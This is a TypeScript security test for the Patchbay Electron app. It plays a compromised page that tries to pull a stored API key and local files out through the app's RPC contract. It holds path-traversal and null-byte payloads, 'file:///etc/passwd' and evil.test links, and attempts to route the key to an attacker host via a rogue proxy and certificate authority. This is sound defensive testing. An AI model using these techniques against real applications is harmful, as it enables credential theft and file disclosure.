import { createHook } from 'node:async_hooks';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { SaveDialogOptions } from 'electron';
import { createCore } from '#core/index.ts';
import { type Client, contract } from '#shared/contract/index.ts';
import { connect } from '#shared/rpc/connect.ts';
import { serve } from '#shared/rpc/serve.ts';
import { createPair } from '#shared/rpc/transport.ts';
import { createDesktopHostServices } from '../../../electron/desktop/host-services.ts';
import { createExternalLinks } from '../../../electron/desktop/security/external-links.ts';
import { canariesIn, canaryKey } from '../exchange/canary.ts';
import { authority, otherName } from '../exchange/certificates.ts';
import { completion } from '../exchange/chat-wire.ts';
import { startTunnelProxy } from '../exchange/tunnel-proxy.ts';
import { json, startRecordingServer } from '../exchange/wire-server.ts';
import { createMemoryVault } from './memory-vault.ts';

/** What a compromised page reached; each is empty when the protections work. */
export interface Loot {
  'a key': string[];
  'a key at an origin of its own': string[];
  'a file of the computer': string[];
  'a file outside': string[];
  'a process': string[];
  'an address opened unasked': string[];
}

/** Tries something that may fail in any way. */
const attempt = (ask: () => unknown) =>
  Promise.resolve()
    .then(ask)
    .catch((thrown: unknown) => thrown);
async function drain(values: AsyncIterable<unknown>): Promise<unknown[]> {
  const read: unknown[] = [];
  await attempt(async () => {
    for await (const value of values) read.push(value);
  });
  return read;
}

const namesBelow = (folder: string) => readdirSync(folder, { recursive: true }).map(String).toSorted();

/**
 * Runs a compromised page that sends the core anything it likes, over the whole contract, on a desktop whose user declines
 * every dialog, and reports what it got. The key was entered for `https://other.test` by an honest page.
 */
export async function letLoose(): Promise<Loot> {
  const top = mkdtempSync(path.join(os.tmpdir(), 'patchbay-loot-'));
  const dataFolder = path.join(top, 'data');
  mkdirSync(dataFolder);
  const foreign = path.join(top, 'hostname');
  writeFileSync(foreign, 'FOREIGN-FILE-CONTENT');
  const opened: string[] = [];
  const processes: string[] = [];
  const hook = createHook({ init: (_id, type) => void (type === 'PROCESSWRAP' && processes.push(type)) });
  const evil = await startRecordingServer(({ socket }) => socket.write(json(completion())), otherName);
  const plain = await startRecordingServer(({ socket }) => socket.write(json(completion())));
  const proxy = await startTunnelProxy(evil.port);

  const core = await createCore(
    createDesktopHostServices({
      platform: 'linux',
      version: '1.0.0',
      dataFolder,
      vault: createMemoryVault(),
      dialog: { showSaveDialog: (async (_options: SaveDialogOptions) => ({ canceled: true, filePath: '' })) as never },
      session: { resolveProxy: async () => 'DIRECT' },
      downloads: path.join(top, 'downloads'),
      env: {},
      openLink: createExternalLinks({ openExternal: async (address) => void opened.push(address) }, async () => false),
      notify: null,
      updater: { support: 'not-packed', feed: null, find: async () => null, fetch: async () => {}, install: () => {} },
    }),
  );
  const [clientPort, serverPort] = createPair();
  const frames: unknown[] = [];
  const stop = serve(contract, core.handlers, {
    ...serverPort,
    post(frame) {
      frames.push(structuredClone(frame));
      serverPort.post(frame);
    },
  });
  const client = connect(contract, clientPort);
  hook.enable();
  try {
    const { id: connectionId } = await client.connections.save({ name: 'Honest', baseAddress: 'https://other.test' });
    const key = await client.keys.put({ connectionId, alias: 'main', secret: canaryKey });
    frames.length = 0;
    const before = namesBelow(top).filter((name) => !name.startsWith('data'));

    await askForKeys(client, connectionId, key.id);
    await leadKeyAway(client, connectionId, plain.url, `http://${proxy.address}`);
    await reachForFiles(client, connectionId, key.id, foreign);
    for (const address of ['https://evil.test/', 'file:///etc/passwd', 'javascript:1', 'mailto:a@evil.test'])
      await attempt(() => client.host.openLink({ address }));

    const heads = [...evil.requests, ...plain.requests].map(({ head }) => head);
    const text = JSON.stringify(frames);
    return {
      'a key': canariesIn(text),
      'a key at an origin of its own': heads.filter((head) => canariesIn(head).length > 0),
      'a file of the computer': text.includes('FOREIGN-FILE-CONTENT') ? [foreign] : [],
      'a file outside': namesBelow(top)
        .filter((name) => !name.startsWith('data'))
        .filter((name) => !before.includes(name)),
      'a process': processes,
      'an address opened unasked': opened,
    };
  } finally {
    hook.disable();
    stop();
    await core.close();
    await Promise.all([evil.close(), plain.close()]);
    proxy.close();
    rmSync(top, { recursive: true, force: true });
  }
}

/** Everything that could reveal a key. */
async function askForKeys(client: Client, connectionId: string, keyId: string): Promise<void> {
  const body = {
    kind: 'json' as const,
    text: JSON.stringify({ model: '{{key}}', messages: [], user: '$PATCHBAY_API_KEY' }),
  };
  const draft = { connectionId, keyId, routeId: 'chat.completions' as const, body };
  for (const ask of [
    () => client.keys.status({}),
    () => client.keys.rename({ id: keyId, alias: '__proto__' }),
    () => client.connections.list({}),
    () => client.connections.exportPlain({ ids: [connectionId] }),
    () => client.connections.exportSealed({ ids: [connectionId], passphrase: 'known to the page' }),
    () => client.exchanges.preview(draft),
    () => client.exchanges.draftSnippet({ draft, language: 'curl' }),
    () => client.settings.all({}),
    () => client.checks.keyMarks({ connectionId }),
  ])
    await attempt(ask);
  const parts = await drain(client.exchanges.run(draft));
  const [{ exchangeId: id } = { exchangeId: '' }] = parts as { exchangeId: string }[];
  for (const ask of [
    () => client.exchanges.get({ id }),
    () => client.exchanges.body({ id, side: 'request' }),
    () => client.exchanges.har({ ids: [id] }),
    () => client.exchanges.snippet({ id, language: 'curl' }),
  ])
    await attempt(ask);
}

/** Every way to have the key sent where the page can read it. */
async function leadKeyAway(client: Client, id: string, own: string, proxy: string): Promise<void> {
  const honest = { id, name: 'Honest', baseAddress: 'https://other.test' };
  const custom = { mode: 'custom' as const, address: proxy, bypass: '', user: '' };
  const body = { kind: 'json' as const, text: '{"model":"m","messages":[]}' };
  const run = () => drain(client.exchanges.run({ connectionId: id, routeId: 'chat.completions', body }));
  for (const change of [
    { baseAddress: own },
    { baseAddress: own, acceptedInsecure: true },
    { baseAddress: `https://other.test@${new URL(own).host}` },
    // A proxy of its own that answers in the gateway's name, and the authority that makes it trusted.
    { proxy: custom, extraCa: { name: 'mine', pem: authority } },
    { proxy: custom },
  ]) {
    await attempt(() => client.connections.save({ ...honest, ...change }));
    await run();
    await drain(
      client.exchanges.run({
        connectionId: id,
        routeId: 'custom',
        custom: { method: 'GET', path: '//evil.test/', keyStyle: 'bearer' },
        body: { kind: 'none' },
      }),
    );
    await attempt(() => client.models.list({ connectionId: id, refresh: true }));
  }
  const other = await attempt(() => client.connections.save({ name: 'Own', baseAddress: own }));
  const { id: ownId } = other as { id: string };
  const [key] = await client.keys.status({ connectionId: id });
  await drain(
    client.exchanges.run({ connectionId: ownId, ...(key && { keyId: key.id }), routeId: 'chat.completions', body }),
  );
  await attempt(() => client.connections.save(honest));
}

/** Every place where a path could be injected. */
async function reachForFiles(client: Client, connectionId: string, keyId: string, foreign: string): Promise<void> {
  const climbing = `../../../../../../../..${foreign}`;
  for (const place of [foreign, `file://${foreign}`, climbing, encodeURIComponent(climbing), `${foreign}\0.png`]) {
    for (const ask of [
      () => client.files.get({ id: place }),
      () => client.files.link({ id: place }),
      () => client.files.save({ id: place }),
      () => client.connections.importPreview({ fileId: place }),
      () => client.connections.readCertificates({ pem: place }),
      () => client.connections.save({ name: 'x', baseAddress: `file://${foreign}` }),
      () => client.exchanges.body({ id: place, side: 'request' }),
      () => client.exchanges.keepBody({ id: place, side: 'response' }),
      () => client.library.open({ id: place }),
      () => client.checks.export({ runId: place, form: 'html' }),
    ])
      await attempt(ask);
    const drafts = [
      {
        kind: 'json' as const,
        text: JSON.stringify({ model: 'm', messages: [{ role: 'user', content: `patchbay-file:${place}` }] }),
      },
      { kind: 'form' as const, fields: [{ kind: 'file' as const, name: 'file', fileId: place }] },
    ];
    for (const body of drafts)
      await drain(client.exchanges.run({ connectionId, keyId, routeId: 'chat.completions', body }));
    const kept = (await attempt(() => client.files.keep({ name: place, type: 'text/plain', text: 'x' }))) as {
      id?: string;
    };
    if (kept.id) await attempt(() => client.files.save({ id: kept.id ?? '' }));
  }
}
